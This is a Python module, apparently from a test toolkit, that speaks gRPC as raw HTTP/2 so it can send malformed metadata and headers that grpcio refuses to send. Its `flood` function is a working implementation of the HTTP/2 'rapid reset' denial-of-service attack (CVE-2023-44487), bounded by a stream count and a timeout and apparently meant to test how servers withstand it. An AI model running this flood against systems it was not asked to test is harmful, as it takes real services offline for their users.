"""gRPC calls as raw HTTP/2 (with the h2 library), for what grpcio clients refuse to send:
metadata that is legal to receive but not to send (non-ASCII values), odd headers, and
streams reset right after they open ("rapid reset", CVE-2023-44487)."""

from __future__ import annotations

import asyncio
import contextlib
import struct
from dataclasses import dataclass, field
from urllib.parse import unquote

import h2.config
import h2.connection
import h2.errors
import h2.events
import hpack
from hyperframe.frame import (
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

from acme_devkit.http2_tap import ERROR_CODES as ERROR_NAMES
from acme_devkit.http2_tap import PREFACE

READ_BYTES = 65_536
CANCEL = 0x8  # RFC 9113 error code of RST_STREAM


def grpc_frame(message: bytes, *, compressed: bool = False) -> bytes:
    """A gRPC length-prefixed message; compressed: its flag says the bytes are compressed
    with the call's grpc-encoding (gRPC over HTTP/2, Length-Prefixed-Message)."""
    return (b"\x01" if compressed else b"\x00") + struct.pack(">I", len(message)) + message


def request_headers(
    path: str, metadata: tuple[tuple[str, str | bytes], ...] = ()
) -> list[tuple[bytes, bytes]]:
    """The HTTP/2 request headers of a gRPC call to path with this extra metadata."""
    headers = [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path.encode()),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    ]
    for key, value in metadata:
        headers.append((key.encode(), value.encode() if isinstance(value, str) else value))
    return headers


@dataclass
class RawReply:
    """What the server sent back on one stream."""

    headers: dict[str, str] = field(default_factory=dict)
    trailers: dict[str, str] = field(default_factory=dict)
    data: bytes = b""
    reset: int | None = None  # RST_STREAM error code, if the server reset the stream

    @property
    def status(self) -> int | None:
        """grpc-status (from the trailers, or a trailers-only reply's headers)."""
        value = self.trailers.get("grpc-status", self.headers.get("grpc-status"))
        return None if value is None else int(value)

    @property
    def message(self) -> str:
        """grpc-message, percent-decoded (gRPC over HTTP/2 spec)."""
        return unquote(self.trailers.get("grpc-message", self.headers.get("grpc-message", "")))


class RawConnection:
    """One plaintext HTTP/2 connection speaking gRPC without any of grpcio's checks."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.h2 = h2.connection.H2Connection(
            h2.config.H2Configuration(
                client_side=True, validate_outbound_headers=False, normalize_outbound_headers=False
            )
        )
        self.replies: dict[int, RawReply] = {}
        self.ended: set[int] = set()
        self.terminated: h2.events.ConnectionTerminated | None = None

    @classmethod
    async def open(cls, address: str) -> RawConnection:
        host, port = address.rsplit(":", 1)
        reader, writer = await asyncio.open_connection(host, int(port))
        connection = cls(reader, writer)
        connection.h2.initiate_connection()
        await connection.flush()
        return connection

    async def flush(self) -> None:
        self.writer.write(self.h2.data_to_send())
        await self.writer.drain()

    def send_call(
        self,
        path: str,
        message: bytes,
        metadata: tuple[tuple[str, str | bytes], ...] = (),
        *,
        reset: bool = False,
        compressed: bool = False,
    ) -> int:
        """Queue a unary call (HEADERS + DATA with END_STREAM); reset: RST_STREAM(CANCEL) it
        at once. Returns the stream id; call flush() to send."""
        stream = self.h2.get_next_available_stream_id()
        self.h2.send_headers(stream, request_headers(path, metadata))
        self.h2.send_data(stream, grpc_frame(message, compressed=compressed), end_stream=True)
        if reset:
            self.h2.reset_stream(stream, error_code=h2.errors.ErrorCodes.CANCEL)
        else:
            self.replies[stream] = RawReply()
        return stream

    async def receive(self, within: float) -> None:
        """Read and process what the server sent for up to `within` s, or until every open
        call ended or the connection was closed."""
        loop = asyncio.get_running_loop()
        deadline = loop.time() + within
        while self.terminated is None and set(self.replies) - self.ended:
            remaining = deadline - loop.time()
            if remaining <= 0:
                return
            try:
                data = await asyncio.wait_for(self.reader.read(READ_BYTES), remaining)
            except TimeoutError:
                return
            if not data:
                return
            self.process(data)
            await self.flush()

    def process(self, data: bytes) -> None:
        for event in self.h2.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived | h2.events.TrailersReceived):
                target = self.replies.get(event.stream_id)
                if target is not None:
                    fields = {k.decode(): v.decode("utf-8", "replace") for k, v in event.headers}
                    if isinstance(event, h2.events.ResponseReceived):
                        target.headers.update(fields)
                    else:
                        target.trailers.update(fields)
            elif isinstance(event, h2.events.DataReceived):
                self.h2.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                if event.stream_id in self.replies:
                    self.replies[event.stream_id].data += event.data
            elif isinstance(event, h2.events.StreamEnded):
                self.ended.add(event.stream_id)
            elif isinstance(event, h2.events.StreamReset):
                if event.stream_id in self.replies:
                    self.replies[event.stream_id].reset = event.error_code
                self.ended.add(event.stream_id)
            elif isinstance(event, h2.events.ConnectionTerminated):
                self.terminated = event

    def close(self) -> None:
        self.writer.close()


async def raw_unary_call(
    address: str,
    path: str,
    message: bytes,
    metadata: tuple[tuple[str, str | bytes], ...] = (),
    within: float = 5.0,
    *,
    compressed: bool = False,
) -> RawReply:
    """One unary call as raw HTTP/2; the reply as far as it got within `within` seconds.
    compressed: the message is sent flagged as compressed (give grpc-encoding in metadata)."""
    connection = await RawConnection.open(address)
    try:
        stream = connection.send_call(path, message, metadata, compressed=compressed)
        await connection.flush()
        await connection.receive(within)
        return connection.replies[stream]
    finally:
        connection.close()


@dataclass
class FloodResult:
    """What one flood sent and what the server answered."""

    streams_sent: int = 0
    seconds: float = 0.0
    frames_received: dict[str, int] = field(default_factory=dict)
    goaway: list[str] = field(default_factory=list)  # error code names
    closed_by_server: bool = False


async def flood(
    address: str,
    path: str,
    message: bytes,
    *,
    streams: int,
    reset: bool,
    within: float,
    batch: int = 100,
) -> FloodResult:
    """One connection opening `streams` calls as fast as the socket takes them, each one
    HEADERS + DATA(END_STREAM) and, with reset, an immediate RST_STREAM(CANCEL) ("rapid
    reset", CVE-2023-44487); without reset the calls are left to the server. The header block
    is encoded once (hpack) and repeated; SETTINGS and PINGs are acknowledged, everything else
    read and dropped. Bounded by `streams` and `within` seconds."""
    host, port = address.rsplit(":", 1)
    reader, writer = await asyncio.open_connection(host, int(port))
    result = FloodResult()
    block = hpack.Encoder().encode(request_headers(path), huffman=False)
    body = grpc_frame(message)
    loop = asyncio.get_running_loop()
    started = loop.time()
    writer.write(
        PREFACE
        + SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 2**31 - 1}).serialize()
        + WindowUpdateFrame(0, window_increment=2**31 - 1 - 65_535).serialize()
    )

    async def drain_replies() -> None:
        while True:
            header = await reader.readexactly(9)
            frame, length = Frame.parse_frame_header(memoryview(header))
            body = await reader.readexactly(length)
            kind = type(frame).__name__
            result.frames_received[kind] = result.frames_received.get(kind, 0) + 1
            if isinstance(frame, SettingsFrame | PingFrame) and "ACK" not in frame.flags:
                frame.parse_body(memoryview(body))
                frame.flags.add("ACK")
                if isinstance(frame, SettingsFrame):
                    frame.settings = {}
                writer.write(frame.serialize())
            elif isinstance(frame, GoAwayFrame):
                frame.parse_body(memoryview(body))
                result.goaway.append(ERROR_NAMES.get(frame.error_code, str(frame.error_code)))

    replies = asyncio.ensure_future(drain_replies())
    try:
        stream = 1
        while result.streams_sent < streams and loop.time() - started < within:
            if replies.done():  # the server closed the connection
                result.closed_by_server = True
                break
            chunk = bytearray()
            for _ in range(min(batch, streams - result.streams_sent)):
                chunk += HeadersFrame(stream, data=block, flags=["END_HEADERS"]).serialize()
                chunk += DataFrame(stream, data=body, flags=["END_STREAM"]).serialize()
                if reset:
                    chunk += RstStreamFrame(stream, error_code=CANCEL).serialize()
                stream += 2
                result.streams_sent += 1
            writer.write(chunk)
            try:
                await asyncio.wait_for(writer.drain(), max(0.01, within - (loop.time() - started)))
            except (TimeoutError, ConnectionError):
                result.closed_by_server = True
                break
    finally:
        result.seconds = loop.time() - started
        replies.cancel()
        writer.close()
        with contextlib.suppress(asyncio.CancelledError, asyncio.IncompleteReadError, OSError):
            await replies
    return result
